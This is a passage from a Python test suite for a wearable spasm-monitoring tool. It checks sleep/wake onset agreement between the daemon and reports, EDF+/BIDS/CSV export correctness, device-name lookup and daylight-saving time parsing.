    assert iso(1_709_618_741.9996) == "2024-03-05T06:05:42.000Z"


def test_one_still_epoch_on_a_worn_band_does_not_lose_a_wake_onset(tmp_path: Path) -> None:
    """Found by review: an epoch the band judged off the body (still, no breathing seen) reset the
    export's sleep/wake estimate at once, though the band still said worn (it waits 2 min of such
    epochs); one such epoch a minute before the morning wake lost that wake from every export and
    the report's sleep bars, while the daemon and replay (the band's hysteresis) had it."""
    from spasmwatch.analysis.pipeline import Analyzer
    from spasmwatch.store import Store
    from swcore.frontend import Params

    still = DAY0 + DAY_S + 6.5 * 3600 - 60  # a minute before the second morning's wake
    epochs = []
    for k in range(int(2 * DAY_S / 10)):
        t = DAY0 + k * 10.0
        h = (t - DAY0) % DAY_S / 3600
        quiet = h >= 20 or h < 6.5 or k % 9 == 0
        epochs.append({"boot": 1, "t_ms": (k + 1) * 10_000, "activity": 3 if quiet else 400, "breath": 40,
                       "off_body": int(t == still), "worn": 1})  # fmt: skip
    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_activity(DEVICE, epochs, received_wall_s=DAY0)
    got = _onsets(db, tmp_path / "sw.jsonl", DAY0, DAY0 + 2 * DAY_S)
    live = Analyzer(Params(rate_hz=52.0))
    want = [iso(r["t"]) for k, e in enumerate(epochs)
            for r in live.epoch_decided(DAY0 + k * 10.0, e["activity"], bool(e["off_body"])) if r["type"] in ("wake", "sleep")]  # fmt: skip
    assert "2024-03-05T06:30:10.000Z" in want and got == want


@pytest.mark.parametrize("away", ["not_worn", "not_heard"])
def test_a_night_after_a_day_with_the_band_off_is_sleep_in_exports_and_the_report(tmp_path: Path, away: str) -> None:
    """Found by review: band off 09:00-21:00 (taken off, or not heard), then worn asleep until 06:30.
    Old code: the export and the report found the 06:30 wake but no sleep onset, so the report's
    sleep bars drew the night awake; the daemon, the band unheard, had the night (its history spans
    the gap). Now all three find the sleep at the band's return and the wake after it."""
    from datetime import timezone as tz

    from spasmwatch.analysis.pipeline import Analyzer
    from spasmwatch.export.store_source import StoreSource
    from spasmwatch.report.data import gather, sleep_spans
    from spasmwatch.store import Store
    from swcore.frontend import Params

    epochs, live, said = [], Analyzer(Params(rate_hz=52.0)), []
    for k in range(int(1.5 * DAY_S / 10)):
        h = k * 10.0 / 3600
        off = 9 <= h < 21
        if off and away == "not_heard":
            continue
        quiet = h < 6.5 or 21 <= h < 30.5
        epochs.append({"boot": 1, "t_ms": (k + 1) * 10_000, "activity": 0 if off else 3 if quiet else 400, "breath": 40,
                       "off_body": int(off), "worn": int(not off)})  # fmt: skip
        said += [(r["type"], r["t"]) for r in live.epoch_decided(DAY0 + k * 10.0, epochs[-1]["activity"], off) if r["type"] in ("wake", "sleep")]
    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_activity(DEVICE, epochs, received_wall_s=DAY0)
    until = DAY0 + 1.5 * DAY_S
    got = _onsets(db, tmp_path / "sw.jsonl", DAY0 + 7 * 3600, until)
    assert got == ["2024-03-04T21:00:00.000Z", "2024-03-05T06:30:00.000Z"], got
    with Store.open_readonly(db) as st:
        spans = sleep_spans(gather(StoreSource(st), None, DAY0 + 7 * 3600, until, tz.utc, until))
    assert spans == [(DAY0 + 21 * 3600, DAY0 + 30.5 * 3600)], spans
    # the daemon's: its own hysteresis dates the band's return up to an epoch later
    night = [(kind, t) for kind, t in said if t >= DAY0 + 7 * 3600]
    assert [k for k, _ in night] == ["sleep", "wake"] and night[0][1] - DAY0 - 21 * 3600 in (0.0, 10.0), night
    assert night[1][1] == DAY0 + 30.5 * 3600


class _Sleeps:
    """The daemon's LiveAnalysis listener: the sleep and wake onsets it tells of."""

    def __init__(self) -> None:
        self.said: list[str] = []

    def cluster_changed(self, *args: object, **kw: object) -> None:
        pass

    def chain_forming(self, *args: object) -> None:
        pass

    def sleep_changed(self, device: str, kind: str, t: float) -> None:
        self.said.append(iso(t))


def test_the_daemon_s_sleep_estimate_is_the_report_s_after_the_band_rebooted(tmp_path: Path) -> None:
    """Hostile review: worn awake 1 h, off 30 min, the band reboots on the charger (1 h unheard; its
    new boot's verdict 'unknown' until its hysteresis decides), lies there 80 s more, then goes on a
    sleeping baby for an hour. The report took the band's verdict (its 'unknown' worn) and the
    daemon its own Wear (NOT_WORN from before the reboot), so they told different nights from one
    store. Old code: report 02:30:00, daemon 02:31:30. Now the daemon follows the band's verdict
    as the store keeps it (sleepwake.counts_worn), and they agree."""
    from spasmwatch.daemon.live import LiveAnalysis
    from spasmwatch.store import Store
    from spasmwatch.analysis.sleepwake import counts_worn
    from swcore.epoch import Wear
    from swcore.frontend import Params

    plan = [(1, "awake", 360), (1, "off", 180), (0, "unheard", 360), (2, "off", 8), (2, "asleep", 360), (2, "awake", 180)]
    rows: dict[int, list[dict[str, int]]] = {1: [], 2: []}
    seq: list[tuple[float, int, bool, int]] = []  # what the daemon is sent: start, activity, off, verdict
    t, starts = DAY0, {}
    for boot, kind, n in plan:
        if not boot:
            t += n * 10.0
            continue
        wear = Wear() if not rows[boot] else wear  # the band's hysteresis, begun at its boot
        starts.setdefault(boot, t)
        for _ in range(n):
            off = kind == "off"
            wear.update(off)
            activity = 0 if off else 3 if kind == "asleep" else 400
            rows[boot].append({"boot": boot, "t_ms": (len(rows[boot]) + 1) * 10_000, "activity": activity, "breath": 40,
                               "off_body": int(off), "worn": wear.state})  # fmt: skip
            seq.append((t, activity, off, wear.state))
            t += 10.0
    db = tmp_path / "s.db"
    with Store(db) as store:
        for boot, first in starts.items():
            store.add_sync(DEVICE, boot, 0, first)
            store.add_activity(DEVICE, rows[boot], received_wall_s=first)
    got = _onsets(db, tmp_path / "sw.jsonl", DAY0, t)
    listener = _Sleeps()
    live = LiveAnalysis(DEVICE, Params(rate_hz=52.0), None, listener, lambda: t)  # type: ignore[arg-type]  # no rebuild asked
    for start, activity, off, verdict in seq:
        live.epoch(start, activity, off, counts_worn(verdict, off))
    assert len(got) == 2 and listener.said == got, (listener.said, got)


def _random_night(rng: random.Random) -> tuple[list[tuple[int, float, list[dict[str, int]]]], list[tuple[float, int, bool, bool]]]:
    """One band's random hours: awake, asleep, off the body, unheard (30 s - 20 min, 5 min exactly: the
    longest the estimate goes on across, and an epoch more) and rebooted (unheard, its new boot's
    verdict 'unknown' until its hysteresis decides). The store's boots (number, first epoch's start,
    rows) and what the daemon is sent (start, activity, off_body, worn as counts_worn takes it)."""
    boots: list[tuple[int, float, list[dict[str, int]]]] = []
    seq: list[tuple[float, int, bool, bool]] = []
    t, wear = DAY0, Wear()
    for _ in range(rng.randint(4, 14)):
        kind = rng.choice(["awake", "asleep", "asleep", "off", "unheard", "unheard", "reboot"])
        if kind in ("unheard", "reboot"):
            t += rng.choice([30.0, 120.0, 240.0, 300.0, 301.0, 310.0, float(rng.randint(10, 1200))])  # after an epoch's end
            if kind == "reboot":
                boots.append((len(boots) + 1, t, []))
                wear = Wear()
            continue
        if not boots:
            boots.append((1, t, []))
        number, first, rows = boots[-1]
        for _ in range(rng.randint(3, 200)):
            off = kind == "off"
            wear.update(off)
            activity = 0 if off else (3 if rng.random() < 0.995 else 200) if kind == "asleep" else (rng.choice([200, 400]) if rng.random() < 0.8 else 3)
            rows.append({"boot": number, "t_ms": round((t - first) * 1000) + 10_000, "activity": activity, "breath": 40,
                         "off_body": int(off), "worn": wear.state})  # fmt: skip
            seq.append((t, activity, off, counts_worn(wear.state, off)))
            t += 10.0
    return boots, seq


@pytest.mark.parametrize("chunk", [61, 65_536])
def test_the_daemon_and_the_report_tell_the_same_onsets_across_gaps_and_reboots(tmp_path: Path, chunk: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hostile review of SLEEP_GAP_KEEP_MS: the daemon's SleepWake fed epoch by epoch and the report's
    vectorised estimate over the store (read ``chunk`` epochs at a time: borders inside gaps and
    sleep windows) tell the same onsets on 300 random sequences of sleep, wake, band-off, gaps of
    every length about the 5 min kept and reboots. (The 300 sequences of the 2026-12-06 daemon fix were
    measured, not kept as a test; they held no gap the estimate went on across.)"""
    from spasmwatch.daemon.live import LiveAnalysis
    from spasmwatch.export.store_source import StoreSource
    from spasmwatch.store import Store

    monkeypatch.setattr(importlib.import_module("spasmwatch.store.store"), "ACTIVITY_CHUNK", chunk)
    rng, told, db = random.Random(chunk), 0, tmp_path / "s.db"
    runs = [(f"band-{n}", *_random_night(rng)) for n in range(300 if chunk == 61 else 60)]
    with Store(db) as store:
        for device, boots, _ in runs:
            for number, first, rows in boots:
                store.add_sync(device, number, 0, first)
                store.add_activity(device, rows, received_wall_s=first)
    with Store.open_readonly(db) as store:
        for device, _, seq in runs:
            end = seq[-1][0] + 10.0 if seq else DAY0
            got = [iso(tr.t) for tr in StoreSource(store).transitions(device, DAY0, end + 1.0)]
            listener = _Sleeps()
            live = LiveAnalysis(device, Params(rate_hz=52.0), None, listener, lambda: end)  # type: ignore[arg-type]  # no rebuild asked
            for e in seq:
                live.epoch(*e)
            assert got == listener.said, (device, got, listener.said)
            told += len(got)
    assert told > (300 if chunk == 61 else 60), told


def test_a_band_rebooted_on_its_charger_then_put_on_a_sleeping_baby_is_worn_from_the_baby(tmp_path: Path) -> None:
    """Old code: a boot's 'unknown' wear verdict counted as worn, so a band rebooted on its charger
    and put on a sleeping baby within its 2 min hysteresis counted the charger's 90 s as worn: the
    worn hours began there, the sleep was dated to it (90 s early), in the export, the report and the
    daemon alike. 'unknown' counts as worn only on an epoch not off the body (sleepwake.counts_worn)."""
    from spasmwatch.daemon.live import LiveAnalysis
    from spasmwatch.analysis.sleepwake import counts_worn
    from spasmwatch.export.coverage import WORN, recorded
    from spasmwatch.export.store_source import StoreSource
    from spasmwatch.store import Store
    from swcore.epoch import Wear
    from swcore.frontend import Params

    wear, rows, seq = Wear(), [], []
    for k in range(9 + 120 + 30):  # 90 s on the charger, 20 min asleep, 5 min awake
        off = k < 9
        wear.update(off)
        activity = 0 if off else 3 if k < 129 else 400
        rows.append({"boot": 1, "t_ms": (k + 1) * 10_000, "activity": activity, "breath": 40, "off_body": int(off), "worn": wear.state})
        seq.append((DAY0 + 10.0 * k, activity, off, wear.state))
    assert {r["worn"] for r in rows[:9]} == {-1}  # the charger's epochs: the band's verdict not yet made
    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_activity(DEVICE, rows, received_wall_s=DAY0)
    on, end = DAY0 + 90.0, DAY0 + 10.0 * len(rows)
    assert _onsets(db, tmp_path / "sw.jsonl", DAY0, end) == [iso(on), iso(on + 1200.0)]
    with Store.open_readonly(db) as store:
        worn = [(s.t, s.end) for s in recorded(StoreSource(store), DEVICE, DAY0, end, end) if s.kind == WORN]
    assert worn == [(on, end)]
    listener = _Sleeps()
    live = LiveAnalysis(DEVICE, Params(rate_hz=52.0), None, listener, lambda: end)  # type: ignore[arg-type]  # no rebuild asked
    for start, activity, off, verdict in seq:
        live.epoch(start, activity, off, counts_worn(verdict, off))
    assert listener.said == [iso(on), iso(on + 1200.0)]


def test_each_band_s_epochs_are_counted_at_the_rate_it_reported(tmp_path: Path) -> None:
    """Found by review: exports and reports sized every band's epochs at --rate-hz (default 52
    Hz): a band at 104 Hz read as active at half its bar, so its sleep and wakes were wrong."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        for device, rate in (("fast", 104.0), ("old", None)):  # "old": firmware that does not report it
            store.upsert_device(device, rate_hz=rate, wall_s=DAY0)
            store.add_sync(device, 1, 0, DAY0)
            # 200 active samples of an epoch: 38% of 520 (52 Hz), 19% of 1040 (104 Hz); the bar is 25%.
            store.add_activity(device, [{"boot": 1, "t_ms": 10_000, "activity": 200, "breath": 40, "off_body": 0, "worn": 1}])
    from argparse import Namespace

    from spasmwatch.commands.export import open_source

    for rate_hz, want in ((None, {"fast": False, "old": True}), (52.0, {"fast": True, "old": True})):  # None: --rate-hz not given
        source = open_source(Namespace(db=db, config=None, rate_hz=rate_hz, device=None))
        try:
            got = {a.device: a.active for a in source.activity(None, DAY0, DAY0 + 60)}
        finally:
            source.close()
        assert got == want, rate_hz


def test_edf_annotation_texts_are_cut_whole_characters(tmp_path: Path) -> None:
    """Found by review: texts were cut at 40 characters, but edflib keeps 40 bytes of UTF-8: a
    caregiver's note in German or French lost half a character, and EDF readers showed the whole
    annotation as mojibake ('Ã©Ã©...')."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_note(DAY0 + 60, "note", "Zuckungen beim Aufwachen, Übelkeit danach", None, "parent")
        store.add_note(DAY0 + 120, "video", "Säugling", None, "parent")
    _export(db, tmp_path / "n.edf", "edf")
    r = pyedflib.EdfReader(str(tmp_path / "n.edf"))
    try:
        _, _, texts = r.readAnnotations()
    finally:
        r.close()
    assert texts[0] == "note (note): Zuckungen beim Aufwachen, "  # 39 bytes: Ü would be the 40th and 41st
    assert texts[1] == "note (video): Säugling"


def test_an_edf_export_of_a_quiet_range_opens(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Found by review: with nothing in the range (a quiet night, or no cluster that day) the EDF+
    file had no data record, and pyedflib (like EDFbrowser) refused it as 'not EDF(+) compliant',
    though the export said it was written."""
    db, _ = course_db
    out = tmp_path / "quiet.edf"
    assert run_cli("export", "--db", str(db), "--out", str(out), "--kinds", "cluster",
                   "--since", "2024-03-17T00:00:00Z", "--until", "2024-03-18T00:00:00Z", "--tz", "UTC") == 0  # fmt: skip
    r = pyedflib.EdfReader(str(out))
    try:
        onsets, _, _ = r.readAnnotations()
        start = r.getStartdatetime()
    finally:
        r.close()
    assert len(onsets) == 0 and start == datetime(2024, 3, 17)


def test_an_empty_edf_export_without_since_is_refused_not_dated_1970(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Found by review: with nothing in the range and no --since the recording start fell back to
    time 0, and the EDF+ file was dated 1 Jan 1970: a viewer lining it up with an EEG by date put
    it decades off. There is no start to give it, so the export says so and writes nothing."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    out = tmp_path / "none.edf"
    with pytest.raises(SpasmwatchError, match=r"nothing to export and no --since: an EDF\+ file needs the date/time"):
        run_cli("export", "--db", str(db), "--out", str(out), "--until", "2024-03-01T00:00:00Z")
    assert not out.exists()
    csv_out = tmp_path / "none.csv"  # formats without a header date still write an empty file
    assert run_cli("export", "--db", str(db), "--out", str(csv_out), "--until", "2024-03-01T00:00:00Z") == 0
    assert json.loads(csv_out.with_suffix(".json").read_text())["RecordingStartUTC"] is None
    # With rows and no --since the start is the first row's second, as before.
    assert run_cli("export", "--db", str(db), "--out", str(out), "--kinds", "treatment", "--tz", "UTC") == 0
    r = pyedflib.EdfReader(str(out))
    try:
        start = r.getStartdatetime().replace(tzinfo=timezone.utc)
    finally:
        r.close()
    assert start.timestamp() == TREATMENT_T


def test_an_unknown_device_is_an_error_not_an_empty_export(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Found by review: --device with a name the store does not hold (band1 for band-1) wrote an
    export of notes and treatments only, and a report of empty days, as if the band had seen nothing."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    with pytest.raises(SpasmwatchError, match="no band 'band1' in .*; it holds band-1"):
        run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv"), "--device", "band1")
    with pytest.raises(SpasmwatchError, match="no band 'band1'"):
        run_cli("report", "--db", str(db), "--out", str(tmp_path / "r.html"), "--device", "band1")
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "r.html").exists()


def test_events_and_clusters_name_an_unknown_device_instead_of_listing_nothing(
    course_db: tuple[Path, Expected], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by review: 'spasmwatch events --device band1' (for band-1) said 'nothing in this time
    range' and 'clusters --device band1' '0 cluster(s)', exit 0: a band that had clusters read as quiet."""
    from spasmwatch import cli

    db, _ = course_db
    monkeypatch.delenv("SPASMWATCH_DATA_DIR", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(f'[daemon]\ndata_dir = "{db.parent}"\n')
    for command in ("events", "clusters"):
        assert cli.main([command, "--config", str(config), "--since", "2000-01-01", "--device", "band1"]) == 2
        assert f"spasmwatch {command}: error: --device: no band 'band1' in {db}; it holds {DEVICE}" in capsys.readouterr().err
        assert cli.main([command, "--config", str(config), "--since", "2000-01-01", "--device", DEVICE]) == 0
        assert "nothing in this time range" not in capsys.readouterr().out


def test_a_band_is_known_by_its_name_as_by_its_id(
    course_db: tuple[Path, Expected], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the family audit: 'status' shows 'spasmwatch-0001 (sim0001)' and 'mute
    spasmwatch-0001' works, but 'events', 'clusters', 'summary', 'export', 'report' and 'note'
    with --device spasmwatch-0001 said "no band 'spasmwatch-0001' ...; it holds sim0001". The
    real CLI on a copy of a real store whose band advertised a name."""
    import shutil

    from spasmwatch import cli
    from spasmwatch.store import Store

    db = tmp_path / "spasmwatch.db"
    shutil.copy(course_db[0], db)
    with Store(db) as store:
        store.upsert_device(DEVICE, name="Spasmwatch-0001")  # as the band advertised it
    monkeypatch.delenv("SPASMWATCH_DATA_DIR", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(f'[daemon]\ndata_dir = "{tmp_path}"\n')
    outs = {}
    for device in (DEVICE, "spasmwatch-0001"):  # any case, as the config's name may be typed
        for command in ("events", "clusters"):
            assert cli.main([command, "--config", str(config), "--since", "2000-01-01", "--device", device]) == 0, capsys.readouterr().err
            outs[command, device] = capsys.readouterr().out
        assert cli.main(["summary", "--config", str(config), "--device", device, "--json", "--at", "2024-03-10T08:00"]) == 0, capsys.readouterr().err
        outs["summary", device] = capsys.readouterr().out
        out = tmp_path / f"{device}.csv"
        # --until: the store's band is not heard after it, so without it a disconnected row runs to each export's time
        export = ["export", "--config", str(config), "--format", "csv", "--out", str(out), "--device", device, "--until", "2024-03-18"]
        assert cli.main(export) == 0, capsys.readouterr().err
        outs["export", device] = out.read_text()
        assert cli.main(["report", "--config", str(config), "--out", str(tmp_path / f"{device}.html"), "--since", "2024-03-04",
                         "--until", "2024-03-18", "--device", device]) == 0, capsys.readouterr().err  # fmt: skip
    for command in ("events", "clusters", "summary", "export"):
        assert outs[command, "spasmwatch-0001"] == outs[command, DEVICE] and DEVICE in outs[command, DEVICE], command
    assert cli.main(["note", "filmed it", "--config", str(config), "--device", "spasmwatch-0001"]) == 0, capsys.readouterr().err
    with Store.open_readonly(db) as store:
        assert [n.device for n in store.notes() if n.text == "filmed it"] == [DEVICE]  # filed under its id
    assert cli.main(["events", "--config", str(config), "--device", "spasmwatch-001"]) == 2
    assert f"it holds {DEVICE} (Spasmwatch-0001)" in capsys.readouterr().err  # a typo: the bands by id and name


def test_events_and_clusters_refuse_a_since_not_before_until(
    course_db: tuple[Path, Expected], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the input audit: 'events --until 2024-03-05' (the default --since 24h being after
    it) said 'nothing in this time range', exit 0, over a store holding that day's clusters."""
    from spasmwatch import cli

    db, _ = course_db
    monkeypatch.delenv("SPASMWATCH_DATA_DIR", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(f'[daemon]\ndata_dir = "{db.parent}"\n')
    for command in ("events", "clusters"):
        for window in (["--until", "2024-03-05"], ["--since", "2024-03-05", "--until", "2024-03-04"]):
            assert cli.main([command, "--config", str(config), *window]) == 2
            captured = capsys.readouterr()
            assert f"spasmwatch {command}: error: --since " in captured.err and " is not before --until 2024-03-" in captured.err, captured
            assert captured.out == ""
        assert cli.main([command, "--config", str(config), "--since", "2024-03-04", "--until", "2024-03-05"]) == 0
        listed = capsys.readouterr().out
        assert ("CLUSTER #1" in listed) if command == "events" else ("\n4 cluster(s)" in listed), listed
        assert (" spasm-like movements over " in listed) if command == "events" else True, listed  # not "9 spasms" (family audit)


def test_events_of_one_band_list_its_notes_and_those_of_no_band_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by review: 'events --device A' listed every band's notes beside A's spasms."""
    from spasmwatch import cli
    from spasmwatch.store import Store

    monkeypatch.delenv("SPASMWATCH_DATA_DIR", raising=False)
    with Store(tmp_path / "spasmwatch.db") as store:
        for band in ("cot", "pram"):
            store.upsert_device(band, wall_s=DAY0)
            store.add_note(DAY0 + 60, "video", f"filmed on the {band} band", band, "mum")
        store.add_note(DAY0 + 120, "medication", "vigabatrin given", None, "dad")
    config = tmp_path / "config.toml"
    config.write_text(f'[daemon]\ndata_dir = "{tmp_path}"\n')
    assert cli.main(["events", "--config", str(config), "--since", "2000-01-01", "--device", "cot", "--json"]) == 0
    notes = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert [(n["text"], n["device"]) for n in notes] == [("filmed on the cot band", "cot"), ("vigabatrin given", None)]


def test_a_treatment_s_note_is_exported_in_text(tmp_path: Path) -> None:
    """Found by the researcher audit: 'treatment add ACTH ... --note "first, dose"' kept its note in
    the store ('treatment list' shows it) and every export dropped it: the text column was notes' only."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_treatment(DAY0 + 3600, "ACTH", "start", 150.0, "IU/m2/day", 'first dose, "low"\tat home', "parent")
        store.add_treatment(DAY0 + 7200, "ACTH", "stop", None, None, None, "parent")
    want = ['first dose, "low"\tat home', None]
    for name, fmt in (("t.csv", "csv"), ("u.jsonl", "jsonl"), ("v.parquet", "parquet"), ("sub-01_events.tsv", "bids")):
        out = tmp_path / name
        _export(db, out, fmt)
        if fmt == "csv":
            with open(out, newline="", encoding="utf-8") as f:
                got = [r["text"] or None for r in csv.DictReader(f)]
        elif fmt == "jsonl":
            got = [json.loads(line)["text"] for line in out.read_text(encoding="utf-8").splitlines()]
        elif fmt == "parquet":
            got = pq.read_table(out).column("text").to_pylist()
        else:  # BIDS cells hold no tab: runs of white space are one space
            lines = out.read_text(encoding="utf-8").splitlines()
            got = [None if c == "n/a" else c for c in (dict(zip(lines[0].split("\t"), ln.split("\t")))["text"] for ln in lines[1:])]
            want = ['first dose, "low" at home', None]
        assert got == want, fmt


def test_a_local_since_the_clocks_skipped_or_went_through_twice_is_refused(
    course_db: tuple[Path, Expected], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found by the researcher audit: in Europe/Paris '--since 2026-10-25T02:30' (the hour the clocks
    go through twice) was taken as its first instant without a word, and '2026-03-29T02:30' (an hour
    skipped) as 00:30Z: the recording start of a BIDS or EDF+ export, which must be the EEG's. Refused
    now, naming the option and asking for the offset, as 'truth --wall-clock' does; with one it is taken."""
    import time as time_

    from zoneinfo import ZoneInfo

    from spasmwatch.errors import SpasmwatchError
    from spasmwatch.export import parse_iso

    paris = ZoneInfo("Europe/Paris")
    with pytest.raises(ValueError, match=r"^--since: 2026-10-25T02:30 happened twice in Europe/Paris .*give its offset, "
                       r"2026-10-25T02:30:00\+02:00 or 2026-10-25T02:30:00\+01:00$"):  # fmt: skip
        parse_iso("2026-10-25T02:30", "--since", paris)
    with pytest.raises(ValueError, match=r"^--until: 2026-03-29T02:30 did not happen in Europe/Paris: the clocks skipped"):
        parse_iso("2026-03-29T02:30", "--until", paris)
    assert parse_iso("2026-10-25T02:30+01:00", "--since", paris) == datetime(2026, 10, 25, 1, 30, tzinfo=timezone.utc).timestamp()
    assert parse_iso("2026-12-05T06:00", "--since", paris) == datetime(2026, 12, 5, 5, 0, tzinfo=timezone.utc).timestamp()
    db, _ = course_db
    monkeypatch.setenv("TZ", "Europe/Paris")
    time_.tzset()
    try:
        with pytest.raises(SpasmwatchError, match="^--since: 2024-03-31T02:30 did not happen in Europe/Paris"):
            run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.edf"), "--since", "2024-03-31T02:30")
        assert not (tmp_path / "x.edf").exists()
        assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.edf"), "--since", "2024-03-31T03:30") == 0
    finally:
        monkeypatch.undo()
        time_.tzset()


@pytest.mark.parametrize(
    ("zone", "text", "said"),
    [
        ("Europe/Berlin", "2024-03-31T02:30",
         "2024-03-31T02:30:00+01:00 (03:30 on the clocks) or 2024-03-31T02:30:00+02:00 (01:30 on the clocks)"),
        ("America/New_York", "2024-03-10T02:30",
         "2024-03-10T02:30:00-05:00 (03:30 on the clocks) or 2024-03-10T02:30:00-04:00 (01:30 on the clocks)"),
    ],
)  # fmt: skip
def test_a_skipped_local_time_is_refused_with_the_zone_s_own_offsets(zone: str, text: str, said: str) -> None:
    """Doctor review: a report from the night the clocks went forward ('--since 2024-03-10T02:30' in
    New York) was refused with 'give its offset (e.g. +01:00)': Europe's offset, whatever the zone,
    which there would name 20:30 the day before, and no word of which instant an offset names. Now the
    refusal gives the zone's offsets before and after the change as whole times, with what the clocks
    read at each, as the hour gone through twice already did. The old code ended '(e.g. +01:00)'."""
    from zoneinfo import ZoneInfo

    from spasmwatch.export import parse_iso

    with pytest.raises(ValueError) as err:
        parse_iso(text, "--since", ZoneInfo(zone))
    assert str(err.value) == f"--since: {text} did not happen in {zone}: the clocks skipped that hour (DST); give its offset, {said}"
    first = said.split(" (")[0]
    assert datetime.fromtimestamp(parse_iso(first, "--since"), ZoneInfo(zone)).strftime("%H:%M") == "03:30"


def test_spasms_of_a_boot_never_synced_are_told_not_dropped_silently(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Found by the researcher audit: events of a band boot that never got a time sync (the band
    rebooted twice out of range, docs/host.md) are kept in the store with no wall time, and every
    export left them out without a word ('3 rows' for a store of 5 spasms). The export now says how
    many, of which band and boot; the rows are those it can date."""
    from spasmwatch.store import Store
    from swcore import protocol as P

    def spasm(boot: int, seq: int, ms: int) -> dict[str, int]:
        return {"boot": boot, "seq": seq, "onset_ms": ms, "duration_ms": 1000, "peak_rate_mrads": 2000,
                "peak_angle_mrad": 300, "confidence": 80, "flags": P.EF_TIME_SYNCED}  # fmt: skip

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_events(DEVICE, [spasm(1, 0, 1000), spasm(1, 1, 8000), spasm(1, 2, 15000), spasm(2, 3, 5000), spasm(2, 4, 12000)],
                         received_wall_s=DAY0 + 100)  # fmt: skip
    capsys.readouterr()
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv")) == 0
    err = capsys.readouterr().err
    assert f"{tmp_path / 'x.csv'}: 3 rows (csv)" in err
    assert f"note: 2 spasm event(s) are not in the export: their band boot never got a time sync, so they have no wall time ({DEVICE} boot 2: 2;" in err
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "y.csv"), "--kinds", "cluster") == 0
    assert "note:" not in capsys.readouterr().err  # no spasm asked for: none left out


def test_spasms_dated_through_the_band_s_reset_link_are_exported_and_said_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Band boot 2 never got a time sync; boot 3 did, and the band linked boot 3 to it (BOOTLINK: boot 2
    reset at its 40 s, boot 3 began 1.5 s later, +-3 ms). Boot 2's spasms are exported at their place
    through the link, and the export says they are dated so. Old code: '1 rows', boot 2's 2 said
    to have no wall time."""
    from spasmwatch.store import Store
    from swcore import protocol as P

    def spasm(boot: int, seq: int, ms: int) -> dict[str, int]:
        return {"boot": boot, "seq": seq, "onset_ms": ms, "duration_ms": 1000, "peak_rate_mrads": 2000,
                "peak_angle_mrad": 300, "confidence": 80, "flags": P.EF_TIME_SYNCED}  # fmt: skip

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 3, 0, DAY0 + 100)
        store.add_events(DEVICE, [spasm(2, 0, 5000), spasm(2, 1, 12000), spasm(3, 2, 1000)], received_wall_s=DAY0 + 200)
        link = {"boot": 3, "prev_boot": 2, "cause": 2, "flags": 1, "prev_ms": 40_000, "gap_ms": 1500, "err_ms": 3}
        store.add_boot_link(DEVICE, link, DAY0 + 200)
    capsys.readouterr()
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv")) == 0
    err = capsys.readouterr().err
    assert f"{tmp_path / 'x.csv'}: 3 rows (csv)" in err and "not in the export" not in err, err
    assert ("note: 2 spasm event(s) are dated through the band's reset links, not by a time sync of their own band boot: "
            f"within +-0.003 s of their time ({DEVICE} boot 2: 2, from boot 3 through 1 link(s), +-0.003 s;") in err, err  # fmt: skip


def test_without_since_the_range_starts_at_the_recording_start_not_1970(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Found by an audit: without --since the sidecar's RangeStartUTC (and the BIDS events.json's
    trial_type description) said 1970-01-01T00:00:00.000Z, the query's unbounded start. It is now
    the recording start (the first row's second), so '--since RangeStartUTC --until RangeEndUTC'
    exports the same rows with the same onset_s; with nothing exported it is null, as RecordingStartUTC."""
    db, _ = course_db
    out = tmp_path / "all.csv"
    assert run_cli("export", "--db", str(db), "--out", str(out), "--until", UNTIL) == 0
    side = json.loads((tmp_path / "all.json").read_text())
    with open(out, newline="", encoding="utf-8") as f:
        first = next(csv.DictReader(f))["onset_utc"]  # the first row, of any kind
    first_s = datetime.fromisoformat(first.replace("Z", "+00:00")).timestamp()
    assert side["RangeStartUTC"] == side["RecordingStartUTC"] == iso(int(first_s)), (side, first)
    again = tmp_path / "again.csv"
    assert run_cli("export", "--db", str(db), "--out", str(again), "--since", side["RangeStartUTC"], "--until", side["RangeEndUTC"]) == 0
    assert again.read_bytes() == out.read_bytes()
    bids = tmp_path / "sub-01_events.tsv"
